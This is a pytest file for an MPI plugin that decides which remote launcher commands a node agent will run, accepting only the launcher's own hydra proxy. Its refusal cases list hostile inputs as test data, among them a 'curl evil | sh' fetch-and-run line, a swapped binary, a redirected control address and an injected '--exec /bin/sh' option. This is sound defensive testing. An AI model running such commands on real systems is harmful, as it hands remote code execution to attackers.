"""A node agent runs a launcher's command for its node only when the plugin recognises it as its launcher's own
helper: the command travels through the gang's workflow, where anyone allowed to signal it could put another."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from engine.core.gang import GangPlugin, RankContext
from plugins.mpi import MPI

RANK0 = RankContext(0, 0, 4, 2, 0, 2, "10.0.0.7", 41709, (), "run-1", 0, "/ckpt")
PROXY = str(Path(sys.executable).parent / "hydra_pmi_proxy")


def launch_line(proxy: str = PROXY, control: str = "gpu-07:41709", proxy_id: int = 1) -> str:
    return (
        f"HYDRA_LAUNCH: {proxy} --control-port {control} --rmk user --launcher manual --demux poll --pgid 0 "
        f"--retries 10 --usize -2 --proxy-id {proxy_id}"
    )


def test_the_launchers_own_proxy_command_is_accepted_for_its_node():
    node_rank, command = MPI(nnodes=2).remote_command(launch_line(), RANK0) or (None, [])
    assert node_rank == 1 and "10.0.0.7:41709" in command  # hydra's host name replaced by the advertised address
    assert MPI(nnodes=2).accepts_remote(command, RANK0, 1)


@pytest.mark.parametrize(
    "command",
    [
        ["/bin/sh", "-c", "curl evil | sh"],  # not the proxy at all
        ["/tmp/hydra_pmi_proxy", "--control-port", "10.0.0.7:41709", "--proxy-id", "1"],  # a binary of its own
        [PROXY, "--control-port", "203.0.113.9:41709", "--proxy-id", "1"],  # reporting to someone else's mpiexec
        [PROXY, "--control-port", "10.0.0.7:41710", "--proxy-id", "1"],  # to another port on node rank 0
        [PROXY, "--control-port", "10.0.0.7:41709", "--proxy-id", "0"],  # another node's proxy
        [PROXY, "--control-port", "10.0.0.7:41709", "--proxy-id", "1", "--exec", "/bin/sh"],  # an unknown option
        [PROXY, "--control-port", "10.0.0.7:41709", "--proxy-id"],  # malformed
        [],
    ],
)
def test_anything_else_is_refused(command):
    assert not MPI(nnodes=2).accepts_remote(command, RANK0, 1)


def test_a_plugin_accepts_no_remote_command_unless_it_says_so():
    class Mine(GangPlugin):
        nnodes, nproc_per_node = 2, 1

    assert not Mine().accepts_remote([PROXY, "--proxy-id", "1"], RANK0, 1)
